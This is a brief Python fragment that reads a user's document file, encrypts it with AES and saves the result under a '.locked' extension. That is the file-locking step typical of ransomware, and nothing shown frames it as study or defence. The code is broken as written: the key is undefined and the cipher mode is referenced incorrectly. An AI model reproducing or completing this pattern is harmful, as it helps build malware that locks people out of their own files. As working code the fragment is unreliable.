import pathlib
from Crypto.Cipher import AES

data = pathlib.Path("/home/user/Documents/report.docx").read_bytes()
sealed = AES.new(KEY, MODE_EAX).encrypt(data)
pathlib.Path("/home/user/Documents/report.docx.locked").write_bytes(sealed)
